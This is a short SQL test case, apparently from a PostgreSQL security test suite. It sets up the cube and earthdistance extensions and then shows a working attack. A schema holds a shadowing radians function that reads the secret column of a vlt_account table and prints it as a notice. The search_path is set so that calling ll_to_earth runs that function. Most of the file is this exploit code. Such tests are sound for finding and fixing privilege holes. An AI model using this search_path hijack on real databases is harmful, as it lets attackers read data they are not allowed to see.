-- Has a function of an extension call a function that comes before PostgreSQL's in the search path.
-- wants: read
-- until: 15
-- setup:
CREATE EXTENSION cube SCHEMA public;
CREATE EXTENSION earthdistance SCHEMA public;
-- attack:
CREATE SCHEMA first;
CREATE FUNCTION first.radians(float8) RETURNS float8 LANGUAGE plpgsql AS $$
  BEGIN RAISE NOTICE '%', (SELECT max(secret) FROM public.vlt_account); RETURN 1; END $$;
SET search_path = first, pg_catalog, public;
SELECT ll_to_earth(1, 2);
